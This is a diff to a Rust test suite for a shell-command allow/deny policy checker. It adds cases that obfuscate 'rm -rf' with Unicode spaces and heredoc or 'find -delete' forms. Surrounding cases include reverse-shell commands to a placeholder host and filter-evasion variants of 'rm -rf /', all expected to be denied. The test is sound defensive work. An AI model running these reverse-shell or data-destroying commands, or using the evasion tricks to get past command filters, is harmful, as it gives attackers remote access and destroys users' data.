@@ -127,6 +127,7 @@ fn what_the_other_server_sees_in_a_line_is_seen() {
             ("nohup bash -i >& /dev/tcp/h/1 0>&1 &", Deny),
             ("command bash -i > /dev/tcp/h/1", Deny),
             ("r\u{1}m -rf /", Deny),
+            ("\u{a0}rm -rf\u{2003}/", Deny),
             ("\u{1b}[31mrm -rf /\u{1b}[0m", Deny),
             ("ls\r\nrm -rf /\r\n", Deny),
             ("ls\r\n", Allow),
@@ -255,9 +256,18 @@ fn what_a_find_in_a_text_deletes_is_a_removal_and_its_last_line_is_one() {
         ("cat <<E\nfind /x -exec rm -rf {} +\nE", Deny),
         ("cat <<E\nrm -rf --odd /x\nE", Deny),
         ("cat <<E\nfind /x -name '*.o'\nE", Allow),
+        // Also where nothing is given the text, and in what no shell would take.
+        ("<<E\nrm -rf /x\nE", Deny),
+        ("find /x -exec rm -rf {} + \"", Deny),
+        ("|| 1>y find /x -delete", Deny),
+        ("|| 1>y find /z -delete", Allow),
     ];
     check_exec("allow", rules, &cases);
-    check("allow", rules, &cases.map(|(command, _)| (command, Allow)));
+    check(
+        "allow",
+        rules,
+        &cases[..4].iter().map(|(command, _)| (*command, Allow)).collect::<Vec<_>>(),
+    );
     let rules = "  - {action: allow, when: {command_matches: ['cat *', cat, ls, E]}}\n";
     let cases = [("cat <<E\nls\nE", Allow), ("cat <<F\nls\nF", Deny), ("cat <<< F", Allow)];
     check_exec("deny", rules, &cases);
